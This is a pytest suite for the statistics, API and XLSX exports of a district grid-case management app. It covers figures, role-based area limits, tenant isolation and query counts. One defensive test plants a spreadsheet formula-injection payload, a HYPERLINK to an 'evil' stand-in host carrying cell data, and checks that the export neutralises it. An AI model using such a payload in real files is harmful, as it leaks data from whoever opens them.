"""Statistics of grid cases: figures counted by hand on cases made through the services, the area limit,
another district, bad parameters, the page, the widget, the API, the XLSX files and the SQL statement count.

The district and its cases are in stats_world.py (a table of every case and what happened to it)."""

from __future__ import annotations

import datetime as dt
import io
import re
from typing import Any

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from blueprints.grid_cases import services
from blueprints.grid_cases.models import GridCase
from blueprints.grid_cases.services import exports
from blueprints.grid_cases.services import stats as stats_services
from blueprints.grid_cases.services.base import Actor, ServiceError
from saas.db import statements
from tests.blueprints.grid_cases.stats_world import EXPECTED, NOW, build, build_tree, local
from tests.plugin import bearer, text_of

STATS = "/t/alpha/grid_cases/stats"
API = "/api/v1/t/alpha/grid_cases/stats"


@pytest.fixture
def world(app, factory, tenant_a, tenant_b, monkeypatch):
    """District A with the hand-counted cases, and district B with the same cases of its own."""
    build(factory, tenant_b, monkeypatch, mark="b-")
    w = build(factory, tenant_a, monkeypatch)
    for module in ("stats", "exports"):
        monkeypatch.setattr(f"blueprints.grid_cases.services.{module}.utcnow", lambda: NOW)
    return w


def stats_of(app, factory, world, who: str, params: dict[str, Any] | None = None) -> stats_services.Stats:
    """The figures as the services give them, in English so the expectations read plainly."""
    from flask_babel import force_locale

    with factory.as_tenant(world.tenant) as s, force_locale("en"):
        actor = world.actor(s, who, app.extensions["saas.roles"])
        return stats_services.case_stats(s, world.tenant, actor, params or {}, now=NOW)


def by(stats: stats_services.Stats, dim: str, figure: str = "reported") -> dict[str | None, Any]:
    return {r.code: getattr(r.figures, figure) for r in stats.breakdowns[dim]}


def english(client: Any) -> Any:
    with client.session_transaction() as sess:
        sess["lang"] = "en"
    return client


# --- the figures ---------------------------------------------------------------------------------------


def test_headline_figures_of_the_default_period_match_the_hand_count(app, factory, world):
    stats = stats_of(app, factory, world, "admin")
    assert (stats.period.since, stats.period.until) == (dt.date(2025, 11, 1), dt.date(2026, 11, 20))
    assert stats.totals.as_dict() == EXPECTED


def test_breakdowns_by_street_community_grid_department_category_and_month(app, factory, world):
    stats = stats_of(app, factory, world, "admin")
    assert by(stats, "street") == {"s1": 7, "s2": 2}
    assert by(stats, "community") == {"c1": 7, "c2": 2}
    assert by(stats, "grid") == {"g1": 5, "g2": 2, "g3": 2}
    assert by(stats, "department") == {"water-dept": 1, None: 8}  # c9 is the only dispatched case
    assert by(stats, "category") == {"water": 5, "streetlight": 4}
    months = by(stats, "month")
    assert list(months) == [f"2025-{m}" for m in ("11", "12")] + [f"2026-{m:02d}" for m in range(1, 12)]
    assert {m: n for m, n in months.items() if n} == {"2025-12": 1, "2026-08": 1, "2026-09": 2, "2026-10": 2,
                                                      "2026-11": 3}
    g1, g2, g3 = (next(r.figures for r in stats.breakdowns["grid"] if r.code == code) for code in ("g1", "g2", "g3"))
    # g1: c1 closed, c2 resolved late, c6 rejected, c7 closed, c9 overdue at the department
    assert (g1.accepted, g1.rejected, g1.closed, g1.overdue, g1.resolved, g1.on_time) == (4, 1, 2, 2, 3, 2)
    # g2: c3 rated basically satisfied, c8 rated not satisfied
    assert (g2.closed, g2.rated, g2.good, g2.satisfaction_rate) == (2, 2, 1, 0.5)
    # g3: c4 waiting, c5 escalated: both overdue, one accepted
    assert (g3.accepted, g3.overdue_open, g3.resolved, g3.on_time_rate) == (1, 2, 0, None)
    # the rows without a unit carry a name and sort last
    assert stats.breakdowns["department"][-1].key is None
    assert stats.breakdowns["department"][-1].name == "Not dispatched"


def test_grid_workers_activity_counts_notes_by_kind_and_cases_found(app, factory, world):
    stats = stats_of(app, factory, world, "admin")
    rows = {w.name: (w.found, w.notes, w.grids) for w in stats.workers}
    assert [w.name for w in stats.workers] == ["gw1", "gw3", "gw2"]  # most found first
    # gw1: c1, c2, c9 on patrol and c7 from a note (c0 is before the period); the note itself
    assert rows["gw1"] == (4, {"patrol": 1, "visit": 0, "publicity": 0, "service": 0}, ["一号网格"])
    # gw2 took a resident's call (c3: not a find); the publicity note is before the period
    assert rows["gw2"] == (0, {"patrol": 0, "visit": 2, "publicity": 0, "service": 0}, ["二号网格"])
    assert rows["gw3"] == (1, {"patrol": 0, "visit": 0, "publicity": 0, "service": 1}, ["三号网格"])


def test_a_street_officer_sees_only_their_street(app, factory, world):
    stats = stats_of(app, factory, world, "officer1")
    assert stats.totals.reported == 7
    assert (stats.totals.accepted, stats.totals.closed, stats.totals.overdue) == (6, 4, 2)
    assert by(stats, "street") == {"s1": 7}
    assert by(stats, "grid") == {"g1": 5, "g2": 2}
    assert [w.name for w in stats.workers] == ["gw1", "gw2"]
    other = stats_of(app, factory, world, "officer2")
    assert (other.totals.reported, by(other, "grid"), [w.name for w in other.workers]) == (2, {"g3": 2}, ["gw3"])
    with pytest.raises(ServiceError) as err:
        stats_of(app, factory, world, "officer1", {"area": "s2"})
    assert err.value.errors == {"area": "Choose a street, community or grid of your own area."}


def test_a_community_cadre_sees_only_their_community(app, factory, world):
    stats = stats_of(app, factory, world, "cadre2")
    assert (stats.totals.reported, by(stats, "community"), by(stats, "category")) == (
        2, {"c2": 2}, {"water": 1, "streetlight": 1})


def test_another_districts_cases_never_count(app, factory, world, tenant_b):
    # B has the same nine cases of its own; A's figures above already hold with B's cases in the database
    with factory.as_tenant(tenant_b) as s:
        from tenants.models import User

        admin = s.scalars(sa.select(User).where(User.username == "b-admin")).one()
        stats = stats_services.case_stats(s, tenant_b, Actor(admin, app.extensions["saas.roles"],
                                                             frozenset({"grid_cases"})), {}, now=NOW)
        assert stats.totals.as_dict() == EXPECTED
        assert by(stats, "grid") == {"b-g1": 5, "b-g2": 2, "b-g3": 2}
        assert {w.name for w in stats.workers} == {"b-gw1", "b-gw2", "b-gw3"}
    # and a code of B is no area of A's
    with pytest.raises(ServiceError):
        stats_of(app, factory, world, "admin", {"area": "b-g1"})


def test_an_area_and_a_period_narrow_the_figures(app, factory, world):
    assert stats_of(app, factory, world, "admin", {"area": "g1"}).totals.reported == 5
    community = stats_of(app, factory, world, "admin", {"area": "c2"})
    assert (community.area.code, community.totals.reported, [w.name for w in community.workers]) == ("c2", 2, ["gw3"])
    autumn = stats_of(app, factory, world, "admin", {"since": dt.date(2026, 9, 1), "until": dt.date(2026, 10, 31)})
    assert autumn.totals.reported == 4  # c5, c6, c3, c4
    assert by(autumn, "month") == {"2026-09": 2, "2026-10": 2}
    assert [w.notes["service"] for w in autumn.workers if w.name == "gw3"] == [1]
    # the district itself is "all of it"
    assert stats_of(app, factory, world, "admin", {"area": "alpha"}).area is None


def test_days_are_the_districts_local_days(app, factory, tenant_a, monkeypatch):
    """A case reported at 00:30 on 1 November in Shanghai is November's, though UTC still says 31 October;
    one reported an hour earlier is October's."""
    people = build_tree(factory, tenant_a)
    clock = {"now": local(2026, 10, 31, 23) + dt.timedelta(minutes=30)}
    monkeypatch.setattr("blueprints.grid_cases.services.cases.utcnow", lambda: clock["now"])
    book = app.extensions["saas.roles"]
    with factory.as_tenant(tenant_a) as s:
        from tenants.models import User

        gw1 = Actor(s.scalars(sa.select(User).where(User.id == people["gw1"].id)).one(), book,
                    frozenset({"grid_cases"}))
        for when in (local(2026, 10, 31, 23) + dt.timedelta(minutes=30), local(2026, 11, 1, 0) +
                     dt.timedelta(minutes=30)):
            clock["now"] = when
            services.report_case(s, tenant_a, gw1, {"category_code": "water", "location_code": "g1",
                                                    "description": "夜里发现的问题"})
        s.commit()
        admin = Actor(s.scalars(sa.select(User).where(User.id == people["admin"].id)).one(), book,
                      frozenset({"grid_cases"}))
        stats = stats_services.case_stats(s, tenant_a, admin, {"since": dt.date(2026, 10, 1)}, now=NOW)
        assert {r.code: r.figures.reported for r in stats.breakdowns["month"]} == {"2026-10": 1, "2026-11": 1}
        november = stats_services.case_stats(s, tenant_a, admin, {"since": dt.date(2026, 11, 1)}, now=NOW)
        assert november.totals.reported == 1
        assert stats_services.month_figures(s, tenant_a, admin, NOW).reported == 1


@pytest.mark.parametrize(("params", "field", "message"), [
    ({"since": dt.date(2026, 5, 1), "until": dt.date(2026, 1, 1)}, "until",
     "The end of the period comes before its start."),
    ({"since": dt.date(2022, 1, 1), "until": dt.date(2026, 1, 1)}, "since", "Choose a period of at most 36 months."),
    ({"since": dt.date(1999, 12, 31)}, "since", "Choose a day between 2000-01-01 and 2100-12-31."),
    ({"until": dt.date(9999, 12, 31)}, "until", "Choose a day between 2000-01-01 and 2100-12-31."),
    ({"area": "nowhere"}, "area", "No street, community or grid has this code."),
    ({"area": "water-dept"}, "area", "No street, community or grid has this code."),
])
def test_bad_parameters_are_refused_by_field(app, factory, world, params, field, message):
    with pytest.raises(ServiceError) as err:
        stats_of(app, factory, world, "admin", params)
    assert err.value.errors == {field: message}


def test_a_grid_worker_may_not_see_statistics(app, factory, world, client, login_as):
    with pytest.raises(services.Refused):
        stats_of(app, factory, world, "gw1")
    login_as(world.people["gw1"])
    for url in (STATS, f"{STATS}.xlsx", "/t/alpha/grid_cases/widgets/stats"):
        assert client.get(url).status_code == 403, url
    assert "grid_cases/stats" not in client.get("/t/alpha/").get_data(True)
    token = factory.token(world.people["gw1"])
    assert app.test_client().get(API, headers=bearer(token)).status_code == 403


# --- the page, the widget and the API ---------------------------------------------------------------------


def test_stats_page_shows_figures_charts_tables_and_workers(world, client, login_as):
    login_as(world.people["admin"])
    english(client)
    response = client.get(STATS)
    assert response.status_code == 200
    html = response.get_data(True)
    text = text_of(html)
    assert "2025-11-01 – 2026-11-20 · All of my area" in text
    assert "9 Cases reported" in text
    assert "7 Cases accepted" in text
    assert "4 Cases closed" in text
    assert "4 Overdue cases Open and overdue 3 · Resolved late 1" in text
    assert "80.0% On-time rate 4 / 5" in text
    assert "50.0% Satisfaction rate 1 / 2" in text
    assert html.count("<svg") == 3  # the months' line, streets' and categories' bars
    assert "<script" not in html.split("<main", 1)[1]
    assert "一号街道" in text
    assert "三号网格" in text
    assert "Not dispatched" in text
    assert "gw1" in text
    assert "Cases found" in text
    assert 'href="/t/alpha/grid_cases/stats.xlsx"' in html
    assert 'href="/t/alpha/grid_cases/stats"' in client.get("/t/alpha/").get_data(True)  # the menu entry


def test_stats_page_filters_and_explains_bad_values(world, client, login_as):
    login_as(world.people["officer1"])
    english(client)
    html = client.get(STATS, query_string={"area": "g2", "since": "", "until": ""}).get_data(True)
    assert "2 Cases reported" in text_of(html)
    assert '<option value="g3"' not in html  # another street's grids are not offered
    assert html.count("<svg") == 2  # no level below a grid: months and categories
    response = client.get(STATS, query_string={"since": "2026-05-01", "until": "2026-01-01", "area": "g3"})
    assert response.status_code == 422
    text = text_of(response.get_data(True))
    assert "The end of the period comes before its start." in text
    assert "Choose a street, community or grid of your own area." in text
    response = client.get(STATS, query_string={"since": "2026-02-30"})
    assert response.status_code == 422
    assert 'class="field-error' in response.get_data(True)


def test_widget_shows_this_months_figures(world, client, login_as):
    login_as(world.people["admin"])
    english(client)
    text = text_of(client.get("/t/alpha/grid_cases/widgets/stats").get_data(True))
    # November: c1 closed on time, c2 resolved late, c9 overdue at the department
    assert "3 Cases reported 1 Cases closed 2 Overdue cases 50.0% On-time rate — Satisfaction rate" in text
    assert 'hx-get="/t/alpha/grid_cases/widgets/stats"' in client.get("/t/alpha/").get_data(True)


def test_api_gives_the_same_statistics_and_refuses_bad_parameters(app, factory, world):
    client = app.test_client()
    headers = bearer(factory.token(world.people["officer1"]))
    body = client.get(API, headers=headers).get_json()
    assert body["totals"]["reported"] == 7
    assert body["totals"]["on_time_rate"] == 0.8
    assert [r["code"] for r in body["by_grid"]] == ["g1", "g2"]
    assert body["months"][0] == "2025-11"
    assert body["since"] == "2025-11-01"
    assert body["area"] is None
    assert body["workers"][0]["name"] == "gw1"
    assert body["workers"][0]["cases_found"] == 4
    narrowed = client.get(API, query_string={"area": "g2", "until": "2026-10-31"}, headers=headers).get_json()
    assert (narrowed["area"]["code"], narrowed["totals"]["reported"]) == ("g2", 2)
    bad = client.get(API, query_string={"area": "g3", "since": "2026-12-01", "until": "2026-11-01"}, headers=headers)
    assert bad.status_code == 422
    assert bad.get_json()["code"] == "validation_error"
    assert set(bad.get_json()["errors"]) == {"area", "until"}
    assert client.get(API, query_string={"since": "someday"}, headers=headers).status_code == 422


@pytest.mark.one_backend
def test_api_documents_the_stats_operation(app):
    spec = app.test_client().get("/api/openapi.json").get_json()
    operation = spec["paths"]["/api/v1/t/{tenant}/grid_cases/stats"]["get"]
    assert {"200", "401", "403", "404", "422"} <= set(operation["responses"])
    assert {p["name"] for p in operation["parameters"] if p["in"] == "query"} == {"since", "until", "area"}


# --- XLSX ------------------------------------------------------------------------------------------------


def sheet_rows(book: Any, title: str) -> list[tuple[Any, ...]]:
    return [tuple(r) for r in book[title].iter_rows(values_only=True)]


def test_stats_xlsx_has_one_sheet_per_breakdown(world, client, login_as):
    login_as(world.people["admin"])
    english(client)
    response = client.get(f"{STATS}.xlsx", query_string={"since": "2026-09-01", "until": "2026-11-20"})
    assert response.status_code == 200
    assert response.mimetype == exports.XLSX_MIMETYPE
    assert 'filename="alpha-stats-20260901-20261120.xlsx"' in response.headers["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["Summary", "By street", "By community", "By grid", "By department", "By category",
                               "By month", "Grid workers' activity"]
    summary = dict(sheet_rows(book, "Summary")[1:])
    assert summary["District name"] == "甲区"
    assert summary["From"] == "2026-09-01"
    assert summary["Area"] == "All of my area"
    assert summary["Generated at"] == dt.datetime(2026, 11, 20, 10, 0)  # local time
    assert (summary["Cases reported"], summary["Cases closed"], summary["Overdue cases"]) == (7, 2, 4)
    assert summary["On-time rate"] == pytest.approx(2 / 3)
    rate = next(row[1] for row in book["Summary"].iter_rows() if row[0].value == "On-time rate")
    assert rate.number_format == "0.0%"
    streets = sheet_rows(book, "By street")
    assert streets[0][:5] == ("Code", "Name", "Cases reported", "Cases accepted", "Cases not accepted")
    assert [r[:3] for r in streets[1:]] == [("s1", "一号街道", 5), ("s2", "二号街道", 2)]
    months = sheet_rows(book, "By month")
    assert [(r[0], r[2]) for r in months[1:]] == [("2026-09", 2), ("2026-10", 2), ("2026-11", 3)]
    workers = sheet_rows(book, "Grid workers' activity")
    assert workers[0] == ("Grid worker", "Grids", "Patrol", "Home visit", "Publicity", "Service", "Quick notes",
                          "Cases found")
    assert workers[1] == ("gw1", "一号网格", 0, 0, 0, 0, 0, 3)


def test_stats_xlsx_with_bad_parameters_shows_the_page_with_its_errors(world, client, login_as):
    login_as(world.people["admin"])
    response = client.get(f"{STATS}.xlsx", query_string={"since": "2020-01-01", "until": "2026-01-01"})
    assert response.status_code == 422
    assert response.mimetype == "text/html"
    assert 'class="field-error' in response.get_data(True)


def test_sheets_and_headers_are_in_the_districts_language_by_default(app, world, client, login_as):
    login_as(world.people["admin"])
    book = load_workbook(io.BytesIO(client.get(f"{STATS}.xlsx").data))
    cases = load_workbook(io.BytesIO(client.get("/t/alpha/grid_cases/export.xlsx").data))
    from flask_babel import force_locale, gettext

    with app.test_request_context("/"), force_locale("zh_CN"):
        assert book.sheetnames[0] == gettext("Summary")
        assert sheet_rows(book, gettext("Summary"))[1] == (gettext("District name"), "甲区")
        header = sheet_rows(cases, gettext("Cases"))[0]
        assert header[:3] == (gettext("Case number"), gettext("State"), gettext("Category"))
        states = {r[1] for r in sheet_rows(cases, gettext("Cases"))[1:]}
        assert str(services.STATE_LABELS["closed"]) in states


def export(client: Any, **args: Any) -> tuple[Any, dict[str, list[tuple[Any, ...]]]]:
    response = client.get("/t/alpha/grid_cases/export.xlsx", query_string=args)
    if response.status_code != 200:
        return response, {}
    book = load_workbook(io.BytesIO(response.data))
    return response, {title: sheet_rows(book, title) for title in book.sheetnames}


def test_a_work_list_export_is_audited_with_who_how_many_and_which_query(world, client, login_as, factory,
                                                                         tenant_a):
    """Reporters' names, phones and addresses leave in the file (masked or not): the download is audited."""
    from saas.audit import AuditEntry

    officer = world.people["officer1"]
    login_as(officer)
    response, sheets = export(client, state="final")
    assert response.status_code == 200
    rows = len(next(iter(sheets.values()))) - 1
    assert rows > 0
    with factory.as_tenant(tenant_a) as s:
        [entry] = s.scalars(sa.select(AuditEntry).where(AuditEntry.action == "export.personal")).all()
    assert (entry.actor_id, entry.module, entry.after["rows"]) == (officer.id, "grid_cases", rows)
    assert entry.after["query"] == "state=final"
    assert entry.after["file"].endswith(".xlsx")
    # a refused export (bad filters) is not a download and is not recorded
    assert export(client, since="2026-13-01")[0].status_code == 422
    with factory.as_tenant(tenant_a) as s:
        assert s.scalar(sa.select(sa.func.count()).select_from(AuditEntry)
                        .where(AuditEntry.action == "export.personal")) == 1


def test_work_list_export_holds_exactly_the_lists_cases(world, client, login_as):
    login_as(world.people["officer1"])
    english(client)
    for args in ({}, {"state": "final"}, {"category": "water", "grid": "g1"}, {"view": "overdue"},
                 {"since": "2026-10-01", "until": "2026-11-05"}, {"q": "c3 的问题"}):
        page = client.get("/t/alpha/grid_cases/", query_string={**args, "limit": 200}).get_data(True)
        listed = set(re.findall(r'data-number="([^"]+)"', page))
        response, sheets = export(client, **args)
        assert response.status_code == 200, args
        numbers = {r[0] for r in sheets["Cases"][1:]}
        assert numbers == listed, args
    _response, sheets = export(client, category="water", grid="g1")
    assert len(sheets["Cases"]) == 1 + 3  # the header, c0, c1 and c9: a list is not limited to a period
    about = dict(sheets["About this file"][1:])
    assert about["Category"] == "water"
    assert about["Grid, community or street (code)"] == "g1"
    assert about["Cases"] == len(sheets["Cases"]) - 1


def test_work_list_export_columns_local_times_and_masked_phones(app, factory, world, client, login_as):
    login_as(world.people["admin"])
    english(client)
    _response, sheets = export(client, state="rated")
    header, *rows = sheets["Cases"]
    assert header[:6] == ("Case number", "State", "Category", "Urgency", "Source", "Street")
    col = {name: i for i, name in enumerate(header)}
    by_description = {r[col["Problem"]]: r for r in rows}
    assert set(by_description) == {"c3 的问题", "c8 的问题"}
    c3 = by_description["c3 的问题"]
    assert c3[col["Reporter's mobile number"]] == "139****0003"
    assert c3[col["Reporter"]] == "王女士"
    assert c3[col["Reported at"]] == dt.datetime(2026, 10, 13, 10, 0)  # Asia/Shanghai, not UTC
    assert c3[col["Rating"]] == "Basically satisfied"
    assert c3[col["State"]] == "Closed and rated"
    assert (c3[col["Street"]], c3[col["Grid"]], c3[col["Overdue"]]) == ("一号街道", "二号网格", None)
    with factory.as_tenant(world.tenant) as s:
        number = s.scalars(sa.select(GridCase.number).where(GridCase.id == world.cases["c3"])).one()
    assert c3[col["Case number"]] == number
    # the whole file never holds a phone number in full
    assert all("13911100003" not in str(v) for r in rows for v in r)
    _response, overdue = export(client, view="overdue")
    overdue_col = overdue["Cases"][0].index("Overdue")
    assert {r[overdue_col] for r in overdue["Cases"][1:]} == {"Yes"}


def test_work_list_export_writes_hostile_text_as_inert_text_and_masks_phones(app, factory, world, client, login_as):
    hostile = '=HYPERLINK("http://evil/?d="&M2,"查看详情")'
    with factory.as_tenant(world.tenant) as s:
        case = s.scalars(sa.select(GridCase).where(GridCase.id == world.cases["c3"])).one()
        case.description = f"{hostile} 请回电 138 0013 8000"
        case.address = "@SUM(1+1)"
        s.commit()
    login_as(world.people["admin"])
    english(client)
    response = client.get("/t/alpha/grid_cases/export.xlsx", query_string={"q": hostile})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    header, *rows = sheet_rows(book, "Cases")
    col = {name: i for i, name in enumerate(header)}
    [c3] = [r for r in rows if r[col["Problem"]].startswith("'=HYPERLINK")]
    assert c3[col["Problem"]] == f"'{hostile} 请回电 *************"
    assert c3[col["Address or landmark"]] == "'@SUM(1+1)"
    assert c3[col["Reporter's mobile number"]] == "139****0003"
    about = dict(sheet_rows(book, "About this file")[1:])
    assert about["Number or words"] == "'" + hostile  # the crafted link's filter, written back as text


def test_work_list_export_refuses_more_rows_than_its_cap(world, client, login_as, monkeypatch):
    login_as(world.people["admin"])
    english(client)
    monkeypatch.setattr(exports, "EXPORT_MAX_ROWS", 3)
    response = client.get("/t/alpha/grid_cases/export.xlsx", query_string={"state": "final"})
    assert response.status_code == 303
    assert response.headers["Location"].endswith("/t/alpha/grid_cases/?state=final")
    page = client.get(response.headers["Location"]).get_data(True)
    assert "More than 3 cases match these filters" in text_of(page)
    assert "flash-error" in page
    assert export(client, state="rejected")[0].status_code == 200  # one case: below the cap


@pytest.mark.parametrize(("args", "message"), [
    ({"state": "lost"}, "State:"),
    ({"until": "9999-12-31"}, "Until: Choose a date between 2000 and 2100."),
    ({"grid": "nowhere"}, "No grid, community or street has this code."),
    ({"view": "department"}, "List: Not one of the choices."),  # the admin holds no department
    ({"since": "2026-02-30"}, "From:"),
])
def test_work_list_export_refuses_bad_filters_with_a_message(world, client, login_as, args, message):
    login_as(world.people["admin"])
    english(client)
    response = client.get("/t/alpha/grid_cases/export.xlsx", query_string=args)
    assert response.status_code == 422
    assert message in text_of(response.get_data(True))


# --- SQL statements -------------------------------------------------------------------------------------


def more_cases(app, factory, world, n: int) -> None:
    """A third street with its own community, grids, workers, category and department, and `n` more cases in
    every state, reported over the months: more groups of every dimension, more rows of everything."""
    tenant = world.tenant
    factory.unit(tenant, "street", "s3", name="三号街道")
    factory.unit(tenant, "community", "c3", "s3", name="三号社区")
    factory.unit(tenant, "department", "roads-dept", name="路政局")
    grids = [f"g3{i}" for i in range(4)]
    workers = []
    for i, code in enumerate(grids):
        factory.unit(tenant, "grid", code, "c3", name=f"三{i}网格")
        workers.append(factory.user(tenant, "grid_worker", code, name=f"三街网格员{i}", username=f"w3{i}"))
    book = app.extensions["saas.roles"]
    with factory.as_tenant(tenant) as s:
        services.add_category(s, None, {"code": "roads", "name": "道路", "deadline_days": 4, "urgent_hours": 8,
                                        "department_code": "roads-dept"})
        from blueprints.grid_cases.services import notes as note_services
        from tenants.models import User

        for i in range(n):
            world.clock.now = NOW - dt.timedelta(days=(i * 11) % 380, hours=i % 7)
            user = s.scalars(sa.select(User).where(User.id == workers[i % 4].id)).one()
            actor = Actor(user, book, frozenset({"grid_cases"}))
            case = services.report_case(s, tenant, actor, {
                "category_code": ("roads", "water", "streetlight")[i % 3], "location_code": grids[i % 4],
                "description": f"第{i}个问题", "reporter_phone": f"1370000{i:04d}" if i % 2 else None},
                source=("patrol", "phone")[i % 2])
            note_services.add_note(s, tenant, actor, {"kind": ("patrol", "visit", "service")[i % 3], "text": f"记{i}"})
            for action in ("handle", "resolve", "verify", "close")[: i % 5]:
                s.flush()
                services.act(s, tenant, actor, case.id, action, {"version": case.version, "result": "已处理"})
        world.clock.now = NOW
        s.commit()


def count(client: Any, url: str, headers: dict[str, str] | None = None) -> int:
    assert client.get(url, headers=headers).status_code == 200, url  # warms caches
    with statements() as seen:
        assert client.get(url, headers=headers).status_code == 200, url
    return len(seen)


PAGES = [STATS, f"{STATS}?area=c1&since=2026-01-01", f"{STATS}.xlsx", "/t/alpha/grid_cases/widgets/stats",
         "/t/alpha/grid_cases/export.xlsx", "/t/alpha/grid_cases/export.xlsx?state=final&category=water"]


@pytest.mark.parametrize("who", ["admin", "officer1"])
def test_statement_counts_do_not_grow_with_cases(app, factory, world, login_as, who):
    client = login_as(world.people[who])
    headers = bearer(factory.token(world.people[who]))
    api = app.test_client()
    few = {url: count(client, url) for url in PAGES} | {API: count(api, API, headers)}
    more_cases(app, factory, world, 60)
    many = {url: count(client, url) for url in PAGES} | {API: count(api, API, headers)}
    assert many == few, f"statements per request changed with 60 more cases: {few} -> {many}"
    # and the service itself: one grouped statement, names by kind, the people and their notes
    with factory.as_tenant(world.tenant) as s:
        actor = world.actor(s, who, app.extensions["saas.roles"])
        actor.units("grid_cases.stats")  # the person's grants and their units, loaded with the person
        with statements() as seen:
            stats_services.case_stats(s, world.tenant, actor, {}, now=NOW)
    grouped = [q for q in seen if "grid_cases_cases" in q]
    assert len(grouped) == 1, grouped
    # the grouping, unit names, categories, people, notes, and for a street officer their claimed compounds
    # (PostgreSQL adds the transaction's work_mem and jit settings)
    assert len([q for q in seen if "set_config" not in q]) <= 6, seen
